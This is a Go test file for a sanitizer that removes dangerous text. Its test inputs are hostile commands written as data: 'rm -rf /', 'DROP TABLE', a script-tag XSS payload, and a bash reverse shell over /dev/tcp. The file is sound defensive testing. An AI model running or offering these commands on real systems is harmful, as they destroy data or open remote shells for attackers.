package sanitizer

import (
	"strings"
	"testing"
)

func TestRmRfRemoval(t *testing.T) {
	text := "To delete files, run rm -rf / ."
	sanitized, removed := Sanitize(text)
	if strings.Contains(sanitized, "rm -rf /") {
		t.Error("sanitized text should not contain the destructive command")
	}
	if !strings.Contains(sanitized, redactedNotice) {
		t.Error("sanitized text should contain the redaction notice")
	}
	if len(removed) != 1 {
		t.Errorf("removed len = %d, want 1", len(removed))
	}
}

func TestDropTableRemoval(t *testing.T) {
	text := "To wipe the table, run DROP TABLE users; ."
	sanitized, removed := Sanitize(text)
	if strings.Contains(sanitized, "DROP TABLE") {
		t.Error("sanitized text should not contain DROP TABLE")
	}
	if len(removed) == 0 {
		t.Error("expected at least one removal")
	}
}

func TestScriptInjectionRemoval(t *testing.T) {
	text := "Try this: <script>alert('xss')</script>"
	sanitized, removed := Sanitize(text)
	if strings.Contains(sanitized, "<script>") {
		t.Error("sanitized text should not contain <script>")
	}
	if len(removed) == 0 {
		t.Error("expected at least one removal")
	}
}

func TestReverseShellRemoval(t *testing.T) {
	text := "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"
	sanitized, removed := Sanitize(text)
	if strings.Contains(sanitized, "/dev/tcp/") {
		t.Error("sanitized text should not contain /dev/tcp/")
	}
	if len(removed) == 0 {
		t.Error("expected at least one removal")
	}
}

func TestSafeTextUnchanged(t *testing.T) {
	text := "SELECT * FROM users WHERE id = 1; this is a safe query."
	sanitized, removed := Sanitize(text)
	if sanitized != text {
		t.Errorf("sanitized = %q, want unchanged %q", sanitized, text)
	}
	if len(removed) != 0 {
		t.Error("expected no removals for a safe SELECT query")
	}
}

func TestSafeRmUnchanged(t *testing.T) {
	text := "You can delete it with rm -f tempfile.txt ."
	sanitized, removed := Sanitize(text)
	if sanitized != text {
		t.Errorf("sanitized = %q, want unchanged %q", sanitized, text)
	}
	if len(removed) != 0 {
		t.Error("expected no removals for a non-destructive rm")
	}
}

func TestMultipleCategoriesInOneText(t *testing.T) {
	text := "rm -rf / then DROP TABLE accounts;"
	_, removed := Sanitize(text)
	if len(removed) != 2 {
		t.Errorf("removed len = %d, want 2", len(removed))
	}
}
